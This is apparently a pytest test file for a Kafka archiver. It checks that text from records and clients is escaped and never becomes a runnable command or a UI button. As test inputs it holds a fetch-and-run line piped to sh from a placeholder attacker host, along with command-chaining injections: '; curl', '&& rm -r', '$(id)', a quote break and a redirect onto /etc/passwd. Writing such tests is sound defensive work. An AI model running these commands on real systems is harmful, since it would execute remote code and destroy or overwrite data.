"""Text that others wrote stays text: it is no command, no new line, and no button."""

import json

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kafka_archiver.advice import commands_in, once
from kafka_archiver.decode.decoders import decoder
from kafka_archiver.foreign_text import foreign
from kafka_archiver.orchestration.page.buttons import steps_in
from kafka_archiver.schemas import Schema
from kafka_archiver.steps.plan.step import live_members

pytestmark = pytest.mark.unit

SHELL = "`airflow version; curl -s http://evil.example/x | sh`"
LOSS = f"`{once('orders', {'lost_offsets': 'record_loss'})}`"


@given(st.text(max_size=500), st.integers(1, 400))
def test_foreign_text_is_one_line_without_commands(text: str, most: int) -> None:
    shown = foreign(text, most)
    assert shown.isprintable()
    assert "`" not in shown
    assert not commands_in(f"found {shown}: {foreign(SHELL)}")
    if text.isprintable() and "`" not in text and len(text) <= most:
        assert shown == text


def test_direction_and_control_characters_are_shown() -> None:
    assert foreign("a\u202eb\x1b[31mc\nd\u200be") == "a\\u202eb\\u001b[31mc d\\u200be"


@pytest.mark.parametrize("payload", [SHELL, LOSS, f"x {SHELL} {LOSS}"])
def test_a_record_or_a_client_makes_no_command_and_no_button(payload: str) -> None:
    schema = Schema(kind="JSON", text=json.dumps({"type": "object", "properties": {"n": {"type": "integer"}}}))
    value = json.dumps({"n": payload, payload: 1}).encode()
    made = decoder("json_schema", schema=schema, writers={}, framed=False, column="value", unknown="dead_letter")
    [reason] = made.decode(pa.array([value], pa.binary())).reasons.values()
    for text in (reason, live_members("archiver-orders", [f"{payload}@10.0.0.7"])):
        assert commands_in(text) == ()
        assert steps_in("orders", text) == []


@pytest.mark.parametrize(
    "command",
    [
        "airflow version; curl evil.example",
        "airflow dags trigger x && rm -r y",
        "airflow archive audit $(id)",
        "airflow dags trigger x --conf '{\"a\": \"'; id; '\"}'",
        "airflow archive repair orders > /etc/passwd",
        "airflow archive audit orders\nid",
    ],
)
def test_what_a_shell_takes_as_more_than_one_command_is_none(command: str) -> None:
    assert commands_in(f"do `{command}` now") == ()


def test_our_own_commands_are_commands() -> None:
    ours = [
        "airflow archive repair orders --lost orders/date=2026-11-22/hour=05/orders+0+7.jsonl.gz",
        once("orders", {"bad_record": "skip"}),
    ]
    assert list(commands_in(" or ".join(f"`{command}`" for command in ours))) == ours
